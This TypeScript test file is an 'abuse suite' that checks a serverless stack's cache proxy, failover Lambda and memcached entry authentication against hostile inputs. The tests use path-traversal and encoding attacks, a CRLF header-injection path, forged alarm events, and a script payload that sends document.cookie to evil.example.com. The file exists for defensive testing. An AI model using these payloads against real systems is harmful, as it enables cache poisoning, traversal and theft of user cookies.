/**
 * The abuse suite: what a hostile caller tries, run against the artifacts Pulumi deploys (the
 * serialized Lambda archives of the dev stack), with real memcached and a real upstream on loopback.
 * It fails when a fix of issue 15 regresses:
 *
 * - hostile paths to the cache proxy (Medium 7): traversal, query/fragment injection, variants that
 *   fill the cache. The upstream records every request: it must never be asked outside its base path.
 * - forged failover events (Low): an alarm event that is not CloudWatch's own, from this account and
 *   Region, with a timestamp near now, must not move traffic or scale the service.
 * - poisoned memcached entries (Medium 4): whatever anyone writes straight into memcached (a tampered
 *   body, HTML, no MAC, a made-up MAC, another key's MAC, another item's entry) is never served.
 *
 * Runnable alone: npx mocha test/abuse.test.ts
 */
import * as assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import * as fs from "node:fs";
import * as net from "node:net";
import * as path from "node:path";
import { namespaceKeyring, parseMacKeys, sealEntry } from "../functions/cache/integrity";
import { extractLambdaArchive, type ExtractedLambda } from "./support/lambdaArchive";
import { startMemcached, type MemcachedServer } from "./support/memcached";
import { runProgram, type ProgramRun } from "./support/program";
import { startUpstream, type Upstream } from "./support/upstream";
import { mulberry32 } from "./support/prng";

interface ProxyResponse {
  statusCode: number;
  headers: Record<string, string>;
  body: string;
}
type ProxyHandler = (event: unknown, context?: unknown) => Promise<ProxyResponse>;

/** Reproducible randomness, so a failure names an input that fails again. */
const prng = mulberry32;

/** Pieces of hostile paths: separators, dots and their encodings, lookalikes, control characters. */
const HOSTILE_TOKENS = [
  "/", "/", "/", "\\", ".", "..", "%2e", "%2E", "%2e%2e", "%2f", "%2F", "%5c", "%5C", "%25", "%252e", "%", "?", "#", "%3f", "%3F", "%23",
  ";", "..;", "\t", "\n", "\r", "\u0000", "%00", "%0a", "%0d%0a", "%7f", "%c2%85", "admin", "todos", "1", "a", "é", "%c3%a9", "%C3%A9",
  "%c0%ae", "%e0%80%ae", "\uff0e", "%ef%bc%8e", "\uff0f", "%ef%bc%8f", "\u2024", ":", "@", "!", "$", "&", "=", "+", " ", "%20", "%41", "%7e",
  "{", "}", "|", "`", "\"", "<", ">", "//", "/./", "/../", "//evil.example.com", "@evil.example.com", "http:", "\ud800", "%ed%a0%80",
];

function lambdaContext(timeoutMs = 10_000): { getRemainingTimeInMillis: () => number; awsRequestId: string } {
  const deadline = Date.now() + timeoutMs;
  return { getRemainingTimeInMillis: () => Math.max(0, deadline - Date.now()), awsRequestId: "abuse" };
}

describe("abuse suite: hostile callers against the deployed artifacts", function () {
  this.timeout(60_000);
  let run: ProgramRun;
  before(async () => {
    run = await runProgram("dev");
  });

  describe("hostile paths to the cache proxy (serialized cache Lambda, real memcached, a recording upstream)", () => {
    /** The upstream base path: a request outside it is a traversal. */
    const BASE = "/svc/v1";
    const MAC_KEYS = randomBytes(32).toString("base64");
    let lambda: ExtractedLambda;
    let memcached: MemcachedServer;
    let upstream: Upstream;
    let env: Record<string, string>;
    const savedEnv = { ...process.env };

    before(async () => {
      const fn = run.one("aws:lambda/function:Function", "cache-handler");
      env = fn.inputs.environment.variables;
      lambda = await extractLambdaArchive(fn.inputs.code);
      memcached = await startMemcached();
      upstream = await startUpstream({ body: '{"item":"ok"}' });
      // An upstream with something worth stealing next to the base path.
      upstream.handler = (req) => (req.url?.startsWith(`${BASE}/`) ? undefined : { status: 200, body: '{"secret":"outside the base path"}' });
    });
    after(async () => {
      process.env = savedEnv;
      await memcached?.stop();
      await upstream?.close();
      lambda?.remove();
    });

    function coldStart(): ProxyHandler {
      process.env = {
        ...savedEnv, ...env, MEMCACHED_SERVERS: memcached.address, MEMCACHED_CONFIG_ENDPOINT: memcached.address, UPSTREAM_URL: `${upstream.url}${BASE}`,
        // Entry keys as a value instead of the deployed SSM parameter (no AWS here).
        CACHE_MAC_KEY_PARAMETER: "", CACHE_MAC_KEYS: MAC_KEYS,
        // The logger and the EMF metrics write to stdout; keep the output readable.
        LOG_LEVEL: "error", CACHE_METRICS: "off",
      };
      return lambda.load<ProxyHandler>("handler");
    }

    /** Every request the upstream got stays under the base path, even for an upstream that decodes the path once. */
    function assertUpstreamOnlyAskedUnderBase(): void {
      for (const { url } of upstream.requests) {
        const pathname = url.split("?")[0];
        assert.ok(pathname.startsWith(`${BASE}/`), `upstream asked for ${url}, outside ${BASE}/`);
        for (const segment of pathname.slice(BASE.length + 1).split("/")) {
          if (segment === "" && pathname === `${BASE}/`) continue;
          const decoded = decodeURIComponent(segment).normalize("NFKC");
          assert.ok(decoded !== "" && decoded.split(";")[0] !== "." && decoded.split(";")[0] !== "..", `upstream asked for ${url}: segment ${segment}`);
          assert.ok(!/[/\\?#\u0000-\u001f\u007f-\u009f]/.test(decoded), `upstream asked for ${url}: segment ${segment}`);
        }
      }
    }

    it("the review's attacks are refused with 400 invalid_path naming the reason; the upstream is never asked", async () => {
      const handler = coldStart();
      upstream.requests.length = 0;
      const attacks: Array<[string, string]> = [
        ["/%2e%2e/%2e%2e/admin", "encoded_separator"],
        ["/%2E%2E/%2E%2E/admin", "encoded_separator"],
        ["/.%2e/.%2e/admin", "encoded_separator"],
        ["/todos/..%2f..%2f..%2fadmin", "encoded_separator"],
        ["/todos/..%5c..%5cadmin", "encoded_separator"],
        ["/%252e%252e/%252e%252e/admin", "double_encoding"],
        ["/../../admin", "dot_segment"],
        ["/todos/1/../../../admin", "dot_segment"],
        ["/..;/..;/admin", "dot_segment"],
        ["/todos/1?admin=true", "query_or_fragment"],
        ["/todos/1%3Fadmin=true", "query_or_fragment"],
        ["/todos/1#", "query_or_fragment"],
        ["/todos/1%23", "query_or_fragment"],
        ["//evil.example.com/admin", "empty_segment"],
        ["/todos//1", "empty_segment"],
        ["/todos/1/", "empty_segment"],
        ["/\\evil.example.com", "backslash"],
        ["/..\\..\\admin", "backslash"],
        ["/.\t./.\n./admin", "control_character"],
        ["/todos/1%0d%0aX-Injected:%20yes", "control_character"],
        ["/todos/%00", "control_character"],
        ["/%c0%ae%c0%ae/admin", "bad_escape"],
        ["/%ef%bc%8e%ef%bc%8e/admin", "lookalike"],
        ["/\uff0e\uff0e/admin", "lookalike"],
        [`/${"a/".repeat(600)}b`, "too_long"],
      ];
      for (const [attack, reason] of attacks) {
        const res = await handler({ httpMethod: "GET", path: attack, queryStringParameters: {} }, lambdaContext());
        assert.equal(res.statusCode, 400, `${JSON.stringify(attack)} answered ${res.statusCode}`);
        const error = (JSON.parse(res.body) as { error: { code: string; reason: string; message: string } }).error;
        assert.equal(error.code, "invalid_path");
        assert.equal(error.reason, reason, JSON.stringify(attack));
        assert.ok(error.message.length > 10);
      }
      assert.deepEqual(upstream.requests, [], "the upstream was asked for a hostile path");
    });

    it("query values can neither add parameters nor cut the query sent upstream", async () => {
      const handler = coldStart();
      upstream.requests.length = 0;
      const res = await handler({ httpMethod: "GET", path: "/todos/q", queryStringParameters: { q: "x&admin=true#frag", "a=b&c": "d?e" } }, lambdaContext());
      assert.equal(res.statusCode, 200);
      assert.deepEqual(upstream.requests.map((r) => r.url), [`${BASE}/todos/q?a%3Db%26c=d%3Fe&q=x%26admin%3Dtrue%23frag`]);
    });

    it("random hostile paths (seeded): every answer is a 400 or comes from the upstream under its base path", async () => {
      const handler = coldStart();
      upstream.requests.length = 0;
      const random = prng(0xabad1dea);
      const statuses = new Map<number, number>();
      const accepted = new Set<string>();
      for (let i = 0; i < 600; i++) {
        let p = random() < 0.95 ? "/" : "";
        for (let j = 1 + Math.floor(random() * 7); j > 0; j--) p += HOSTILE_TOKENS[Math.floor(random() * HOSTILE_TOKENS.length)];
        const res = await handler({ httpMethod: "GET", path: p, queryStringParameters: {} }, lambdaContext());
        statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
        assert.ok(res.statusCode === 200 || res.statusCode === 400, `${JSON.stringify(p)} answered ${res.statusCode}: ${res.body}`);
        if (res.statusCode === 200) {
          assert.deepEqual(JSON.parse(res.body), { item: "ok" }, `${JSON.stringify(p)} was served something from outside the base path`);
          accepted.add(p);
        } else {
          assert.equal((JSON.parse(res.body) as { error: { code: string } }).error.code, "invalid_path");
        }
      }
      assert.ok(accepted.size > 30 && (statuses.get(400) ?? 0) > 300, `the generator must produce both kinds: ${JSON.stringify([...statuses])}`);
      assertUpstreamOnlyAskedUnderBase();
      const distinct = new Set(upstream.requests.map((r) => r.url));
      assert.equal(distinct.size, upstream.requests.length, "each canonical resource was fetched once: spellings share entries");
      assert.ok(upstream.requests.length <= accepted.size);
    });

    it("variants of one resource cannot fill the cache: 300 spellings, one upstream request, one memcached entry", async () => {
      const handler = coldStart();
      upstream.requests.length = 0;
      const random = prng(42);
      const resource = "/todos/caf\u00e9-1_a.b~";
      const spell = (): string => {
        let out = "";
        for (const ch of resource) {
          if (ch === "/") { out += "/"; continue; }
          const bytes = Array.from(Buffer.from(ch, "utf8"));
          const encode = ch === "\u00e9" ? random() < 0.7 : random() < 0.5;
          if (!encode || ch === ".") out += ch; // "." stays literal: %2e is refused, not a variant
          else out += bytes.map((b) => `%${b.toString(16).padStart(2, "0")}`).map((e) => (random() < 0.5 ? e.toUpperCase() : e)).join("");
        }
        return out;
      };
      const spellings = new Set<string>([resource]);
      while (spellings.size < 300) spellings.add(spell());
      const sources = new Map<string, number>();
      for (const p of spellings) {
        const res = await handler({ httpMethod: "GET", path: p, queryStringParameters: {} }, lambdaContext());
        assert.equal(res.statusCode, 200, p);
        sources.set(res.headers["x-cache"], (sources.get(res.headers["x-cache"]) ?? 0) + 1);
      }
      assert.deepEqual(upstream.requests.map((r) => r.url), [`${BASE}/todos/caf%C3%A9-1_a.b~`], "one upstream request for every spelling");
      assert.deepEqual([...sources].sort(), [["HIT-L1", 299], ["MISS", 1]]);
      // Another execution environment (empty L1) finds the one entry in memcached under any spelling.
      const other = coldStart();
      const res = await other({ httpMethod: "GET", path: [...spellings][123], queryStringParameters: {} }, lambdaContext());
      assert.equal(res.headers["x-cache"], "HIT-L2");
      assert.equal(upstream.requests.length, 1);
      assertUpstreamOnlyAskedUnderBase();
    });

    it("an invalidation control event with a hostile path is refused and deletes nothing", async () => {
      const handler = coldStart();
      for (const p of ["/%2e%2e/x", "/../x", "/x%23y", "//evil.example.com/x"]) {
        const res = (await handler({ serverlessCacheControl: { action: "invalidate", path: p } }, lambdaContext())) as unknown as { ok: boolean; nodes: unknown[]; error?: string };
        assert.equal(res.ok, false, p);
        assert.deepEqual(res.nodes, [], p);
        assert.match(res.error ?? "", /request path/, p);
      }
    });
  });

  describe("forged failover events (serialized failover Lambda; the AWS APIs answered in-process)", () => {
    let lambda: ExtractedLambda;
    let handler: (event: unknown, context?: unknown) => Promise<{ hint?: unknown; actions: unknown[]; applied: unknown[] }>;
    let fenv: Record<string, string>;
    const writes: string[] = [];
    /** What DescribeAlarms says: the truth the function must act on. */
    let alarmState: "OK" | "ALARM" = "OK";
    const savedEnv = { ...process.env };
    const savedLog = console.log;
    let restore: Array<() => void> = [];

    before(async () => {
      const fn = run.one("aws:lambda/function:Function", "failover");
      const deployed = fn.inputs.environment.variables as Record<string, string | undefined>;
      // Names AWS assigns at creation are unknown under the mock engine: stand-ins, same shape.
      const alarmNames = (deployed.FAILOVER_ALARM_NAMES ?? "").split(",").filter(Boolean);
      fenv = {
        ...(deployed as Record<string, string>),
        FAILOVER_CLUSTER: deployed.FAILOVER_CLUSTER || "svc-dev-cluster",
        FAILOVER_SERVICE: deployed.FAILOVER_SERVICE || "svc-dev-service",
        FAILOVER_ALARM_NAMES: alarmNames.length > 0 ? alarmNames.join(",") : "svc-dev-api-throttles,svc-dev-api-concurrency",
      };
      lambda = await extractLambdaArchive(fn.inputs.code);
      process.env = { ...savedEnv, ...fenv, AWS_REGION: "us-east-1" };
      handler = lambda.load("handler");
      // The archive's own SDK copies (the ones its handler uses): answer every command in-process.
      const world = (name: string, input: Record<string, unknown>): unknown => {
        const alarmNames = fenv.FAILOVER_ALARM_NAMES.split(",");
        switch (name) {
          case "DescribeAlarmsCommand":
            return { MetricAlarms: alarmNames.map((n) => ({ AlarmName: n, StateValue: alarmState, StateUpdatedTimestamp: new Date(Date.now() - 600_000) })) };
          case "DescribeListenersCommand":
            return {
              Listeners: [{
                ListenerArn: fenv.FAILOVER_LISTENER_ARN,
                DefaultActions: [{ Type: "forward", ForwardConfig: { TargetGroups: [{ TargetGroupArn: fenv.FAILOVER_LAMBDA_TG_ARN, Weight: 1 }, { TargetGroupArn: fenv.FAILOVER_FARGATE_TG_ARN, Weight: 0 }] } }],
              }],
            };
          case "DescribeServicesCommand":
            return { services: [{ status: "ACTIVE", desiredCount: Number(fenv.FAILOVER_BASELINE_COUNT), runningCount: Number(fenv.FAILOVER_BASELINE_COUNT) }] };
          case "DescribeTargetHealthCommand":
            return { TargetHealthDescriptions: [] };
          case "GetMetricDataCommand":
            return { MetricDataResults: [] };
          default:
            writes.push(`${name} ${JSON.stringify(input)}`);
            return {};
        }
      };
      for (const [pkg, cls] of [["@aws-sdk/client-cloudwatch", "CloudWatchClient"], ["@aws-sdk/client-ecs", "ECSClient"], ["@aws-sdk/client-elastic-load-balancing-v2", "ElasticLoadBalancingV2Client"]]) {
        const Client = (require(path.join(lambda.dir, "node_modules", pkg)) as Record<string, { prototype: { send: unknown } }>)[cls];
        const original = Client.prototype.send;
        Client.prototype.send = async function (command: { constructor: { name: string }; input: Record<string, unknown> }) {
          return world(command.constructor.name, command.input);
        };
        restore.push(() => { Client.prototype.send = original; });
      }
    });
    after(() => {
      for (const r of restore) r();
      restore = [];
      process.env = savedEnv;
      console.log = savedLog;
      lambda?.remove();
    });

    const ACCOUNT = "123456789012";
    const REGION = "us-east-1";
    const context = { invokedFunctionArn: `arn:aws:lambda:${REGION}:${ACCOUNT}:function:svc-dev-failover`, getRemainingTimeInMillis: () => 30_000 };
    const alarmEvent = (over: Record<string, unknown>, value: "OK" | "ALARM", atMs = Date.now()) => ({
      version: "0", id: "forged", "detail-type": "CloudWatch Alarm State Change", source: "aws.cloudwatch", account: ACCOUNT, region: REGION,
      time: new Date(atMs).toISOString(), resources: [],
      detail: { alarmName: fenv.FAILOVER_ALARM_NAMES.split(",")[0], state: { value, timestamp: new Date(atMs).toISOString() } },
      ...over,
    });
    const invoke = async (event: unknown) => {
      writes.length = 0;
      console.log = () => undefined; // the one JSON summary line per invocation
      try {
        return await handler(event, context);
      } finally {
        console.log = savedLog;
      }
    };

    it("control: CloudWatch's own ALARM event from this account and Region fails over at once", async () => {
      alarmState = "OK"; // DescribeAlarms lags behind the event
      const s = await invoke(alarmEvent({}, "ALARM"));
      assert.ok(s.hint, "the genuine event is a hint");
      assert.deepEqual(s.actions, [{ type: "scaleService", desiredCount: Number(fenv.FAILOVER_DESIRED_COUNT) }]);
      assert.equal(writes.length, 1);
      assert.match(writes[0], /^UpdateServiceCommand .*"desiredCount":2/);
    });

    const forged: Array<[string, Record<string, unknown>, number?]> = [
      ["another source (anyone with invoke rights)", { source: "my.app" }],
      ["no source", { source: undefined }],
      ["another account", { account: "999999999999" }],
      ["another Region", { region: "eu-west-1" }],
      ["a timestamp an hour in the future (would outrank every later real change)", {}, 3_600_000],
      ["a timestamp an hour old", {}, -3_600_000],
      ["a timestamp that is not a date", { detail: { alarmName: "x", state: { value: "ALARM", timestamp: "soon" } } }],
    ];
    for (const [what, over, shiftMs] of forged) {
      it(`a forged ALARM event with ${what} is ignored: no traffic shift, no scaling`, async () => {
        alarmState = "OK";
        const s = await invoke(alarmEvent(over, "ALARM", Date.now() + (shiftMs ?? 0)));
        assert.equal(s.hint, undefined);
        assert.deepEqual(s.actions, []);
        assert.deepEqual(writes, []);
      });
    }

    it("a forged OK event (another account, or from the future) does not hold back a real failover", async () => {
      alarmState = "ALARM";
      for (const event of [alarmEvent({ account: "999999999999" }, "OK"), alarmEvent({ source: "my.app" }, "OK"), alarmEvent({}, "OK", Date.now() + 3_600_000)]) {
        const s = await invoke(event);
        assert.equal(s.hint, undefined);
        assert.deepEqual(s.actions, [{ type: "scaleService", desiredCount: Number(fenv.FAILOVER_DESIRED_COUNT) }]);
      }
    });
  });

  describe("poisoned memcached entries (serialized API Lambda, real memcached: anyone who reaches port 11211 can write)", () => {
    let lambda: ExtractedLambda;
    let memcached: MemcachedServer;
    let upstream: Upstream;
    let env: Record<string, string>;
    const savedEnv = { ...process.env };
    const MAC_KEYS = randomBytes(32).toString("base64");
    const fixture = JSON.parse(fs.readFileSync(path.join(__dirname, "fixtures", "alb", "get-item.single.json"), "utf8")) as Record<string, unknown>;
    const realBody = (id: string): string => JSON.stringify({ id, title: `real item ${id}` });

    before(async () => {
      const fn = run.one("aws:lambda/function:Function", "svc-dev-api");
      env = fn.inputs.environment.variables;
      lambda = await extractLambdaArchive(fn.inputs.code);
      memcached = await startMemcached();
      upstream = await startUpstream();
      upstream.handler = (req) => ({ body: realBody(/\/todos\/([^/?]+)/.exec(req.url ?? "")?.[1] ?? "?") });
    });
    after(async () => {
      process.env = savedEnv;
      await memcached?.stop();
      await upstream?.close();
      lambda?.remove();
    });

    type AlbAnswer = { statusCode: number; headers?: Record<string, string>; body: string };
    function coldStart(macKeys: string | undefined): (event: unknown, context?: unknown) => Promise<AlbAnswer> {
      process.env = {
        ...savedEnv, ...env, MEMCACHED_SERVERS: memcached.address, MEMCACHED_CONFIG_ENDPOINT: "", MEMCACHED_ENDPOINT: "", UPSTREAM_URL: upstream.url,
        CACHE_MAC_KEY_PARAMETER: "", CACHE_MAC_KEYS: macKeys ?? "", CACHE_METRICS: "off", LOG_LEVEL: "silent", AWS_REGION: "us-east-1",
      };
      return lambda.load("handler");
    }
    const get = (handler: (event: unknown, context?: unknown) => Promise<AlbAnswer>, id: string) =>
      handler({ ...fixture, httpMethod: "GET", path: `/dev/items/${id}`, queryStringParameters: { lang: "en" }, body: "", isBase64Encoded: false }, lambdaContext());

    /** One text-protocol exchange with memcached, bytes kept as latin1 so lengths stay byte counts. */
    function memcachedSay(request: Buffer, done: (reply: string) => boolean): Promise<string> {
      return new Promise((resolve, reject) => {
        const socket = net.connect(memcached.port, memcached.host);
        let reply = "";
        socket.on("data", (d: Buffer) => {
          reply += d.toString("latin1");
          if (done(reply)) { socket.end(); resolve(reply); }
        });
        socket.on("error", reject);
        socket.write(request);
      });
    }
    async function memcachedKeys(): Promise<string[]> {
      const dump = await memcachedSay(Buffer.from("lru_crawler metadump all\r\n"), (r) => r.endsWith("END\r\n"));
      return [...dump.matchAll(/^key=(\S+)/gm)].map((m) => decodeURIComponent(m[1]));
    }
    async function memcachedGet(key: string): Promise<{ flags: number; value: string } | undefined> {
      const reply = await memcachedSay(Buffer.from(`get ${key}\r\n`), (r) => r.endsWith("END\r\n"));
      const m = /^VALUE \S+ (\d+) (\d+)\r\n/.exec(reply);
      if (!m) return undefined;
      const start = m[0].length;
      return { flags: Number(m[1]), value: Buffer.from(reply.slice(start, start + Number(m[2])), "latin1").toString("utf8") };
    }
    async function memcachedSet(key: string, flags: number, value: string): Promise<void> {
      const bytes = Buffer.from(value, "utf8");
      const reply = await memcachedSay(Buffer.concat([Buffer.from(`set ${key} ${flags} 0 ${bytes.length}\r\n`), bytes, Buffer.from("\r\n")]), (r) => r.endsWith("\r\n"));
      assert.equal(reply, "STORED\r\n");
    }
    /** The memcached key and stored value of an item, found by its content (keys are hashes). */
    async function storedEntry(id: string): Promise<{ key: string; flags: number; value: string }> {
      const marker = JSON.stringify(realBody(id)).slice(1, -1);
      for (const key of await memcachedKeys()) {
        const got = await memcachedGet(key);
        if (got && got.value.includes(marker)) return { key, ...got };
      }
      throw new Error(`no memcached entry holds item ${id}`);
    }
    /** The envelope of an entry with the item's body (and content type) replaced. */
    const tamper = (payload: string, id: string, body: string, contentType?: string): string => {
      let out = payload.split(JSON.stringify(realBody(id)).slice(1, -1)).join(JSON.stringify(body).slice(1, -1));
      if (contentType) out = out.split("application/json").join(contentType);
      assert.notEqual(out, payload, "the poison must differ from the real entry");
      return out;
    };
    const POISON_JSON = JSON.stringify({ id: "42", title: "poisoned" });
    const POISON_HTML = "<script>fetch('https://evil.example.com/?c='+document.cookie)</script>";

    it("control: without entry authentication the same poisoned entry would be served (the attack is real)", async () => {
      const unauthenticated = coldStart(undefined);
      const first = await get(unauthenticated, "7");
      assert.equal(first.statusCode, 200);
      const entry = await storedEntry("7");
      assert.ok(!entry.value.startsWith("~m1:"), "stored without a MAC");
      await memcachedSet(entry.key, entry.flags, tamper(entry.value, "7", POISON_JSON));
      const served = await get(coldStart(undefined), "7");
      assert.equal(served.body, POISON_JSON, "an unauthenticated cache serves what anyone wrote");
    });

    it("with entry keys (CACHE_MAC_KEYS), no poisoned entry is ever served: each is a miss, answered from the upstream", async () => {
      const handler = coldStart(MAC_KEYS);
      assert.equal((await get(handler, "42")).statusCode, 200);
      assert.equal((await get(handler, "43")).statusCode, 200);
      const genuine = await storedEntry("42");
      const other = await storedEntry("43");
      assert.match(genuine.value, /^~m1:[A-Za-z0-9_-]{8}:[A-Za-z0-9_-]{43}:/, "stored with a MAC");
      const sealed = /^(~m1:[A-Za-z0-9_-]{8}:)([A-Za-z0-9_-]{43}):([\s\S]*)$/.exec(genuine.value);
      assert.ok(sealed);
      const [, prefix, , payload] = sealed;
      const attackerRing = namespaceKeyring(parseMacKeys(randomBytes(32).toString("base64")), env.CACHE_NAMESPACE ?? "api");
      const poisons: Array<[string, string]> = [
        ["a forged body under the original MAC", `${prefix}${sealed[2]}:${tamper(payload, "42", POISON_JSON)}`],
        ["HTML under the original MAC", `${prefix}${sealed[2]}:${tamper(payload, "42", POISON_HTML, "text/html")}`],
        ["no MAC at all (what an unauthenticated writer stores)", tamper(payload, "42", POISON_JSON)],
        ["a made-up MAC", `${prefix}${"A".repeat(43)}:${tamper(payload, "42", POISON_HTML, "text/html")}`],
        ["the MAC of the attacker's own key", sealEntry(attackerRing, genuine.key, tamper(payload, "42", POISON_JSON))],
        ["another item's genuine entry, copied under this key", other.value],
      ];
      for (const [what, poison] of poisons) {
        upstream.requests.length = 0;
        await memcachedSet(genuine.key, genuine.flags, poison);
        const res = await get(coldStart(MAC_KEYS), "42");
        assert.equal(res.statusCode, 200, what);
        assert.equal(res.body, realBody("42"), `${what}: served ${res.body.slice(0, 80)}`);
        assert.match(res.headers?.["content-type"] ?? "", /^application\/json/, what);
        assert.equal(upstream.requests.length, 1, `${what}: rejected as a miss, read again from the upstream`);
      }
    });
  });
});
